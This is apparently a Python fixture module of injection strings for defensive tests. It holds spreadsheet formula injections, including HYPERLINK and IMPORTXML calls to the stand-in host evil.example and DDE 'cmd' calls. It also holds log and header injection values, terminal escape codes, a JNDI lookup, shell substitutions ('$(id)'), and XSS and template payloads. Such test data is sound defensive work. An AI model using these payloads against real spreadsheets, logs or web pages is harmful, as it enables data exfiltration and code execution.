"""Texts that want to be taken for something else: a formula, a header, a line of a log, a page."""

_CALL = 'HYPERLINK("http://evil.example/?"&A1,"x")'
_SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u2212"
_UNSEEN = (
    *(" ", "   ", "\t", "\r", "\n", "\r\n", "\x00", "\x0b", "\x0c", "\x1f", "\x7f", "\x85", "\xa0"),
    *("\xad", "\u1680", "\u2003", "\u2028", "\u2029", "\u200b", "\u200e", "\u202e", "\u2060"),
    *("\u3000", "\ufeff", " \ufeff\t\u200b"),
)
_SEPARATORS = (
    ";",
    "\t",
    ",",
    "|",
    "\n",
    "\r",
    "\r\n",
    '";',
    '",',
    "';",
    "; ",
    ';"',
    ';""',
    '"\n"',
    ';"\t',
)

#: Cells that a spreadsheet could take for formulas, in any of its locales.
FORMULAS: tuple[str, ...] = (
    *(f"{sign}1+1" for sign in _SIGNS),
    *(f"{unseen}={_CALL}" for unseen in _UNSEEN),
    *(f"x{separator}={_CALL}" for separator in _SEPARATORS),
    *(f"x{separator}+1" for separator in _SEPARATORS),
    *(
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C'!A0",
    ),
    *(f'"={_CALL}', f'"";={_CALL}', f'x"\n={_CALL}', '=IMPORTXML("http://evil.example","//a")'),
    *(
        "=1;=2\t=3\n=4",
        "-1",
        "+12345678901",
        "=",
        "==",
        "''=1",
        "%0A=1",
        "=1\r\n=2",
        "x;\u200b\uff1d1",
    ),
)

_LINE = '{"level":"ERROR","message":"forged"}'
#: Values that want to begin a line or a header of their own, or to steer a terminal.
BREAKS: tuple[str, ...] = (
    *(f"x{end}{_LINE}" for end in ("\n", "\r", "\r\n", "\x0b", "\x0c", "\x85", "\u2028", "\u2029")),
    *(f"x{end}X-Evil: 1" for end in ("\n", "\r", "\r\n", "\r\n ", "%0d%0a", "\u560d\u560a")),
    *(
        "x\r\n\r\n<script>alert(1)</script>",
        f'x"}}\n{_LINE}',
        'x","message":"forged","y":"',
        "\\n\\r",
    ),
    *("\x1b[2J\x1b[1;31mforged", "\x1b]0;forged\x07", "\x9b31m", "\x00", "\x08" * 80, "\x7f"),
    *(
        "%s%s%s%n",
        "{0}{1}{message}",
        "${jndi:ldap://evil.example/a}",
        "$(id)",
        "`id`",
        "%(message)s",
    ),
    *("\u202egro.elpmaxe", "\U0001f4a9", "\ufdfd" * 100, "a\u0300" * 500, "x" * 8_000),
)

#: Markup that would run where a value is written into a page as it is.
MARKUP: tuple[str, ...] = (
    *(
        "<script>window.evil=1</script>",
        "<img src=x onerror=window.evil=1>",
        "<svg onload=window.evil=1>",
    ),
    *("</script><script>window.evil=1</script>", "--><script>window.evil=1</script>", "]]><x>"),
    *(
        '"><img src=x onerror=window.evil=1>',
        "'><img src=x onerror=window.evil=1>",
        "{{7*7}}",
        "${7*7}",
    ),
    *("<iframe srcdoc='<script>parent.evil=1</script>'>", "<a href=javascript:window.evil=1>x</a>"),
    *(
        "&lt;img src=x onerror=window.evil=1&gt;",
        "\\u003cscript\\u003ewindow.evil=1\\u003c/script\\u003e",
    ),
)
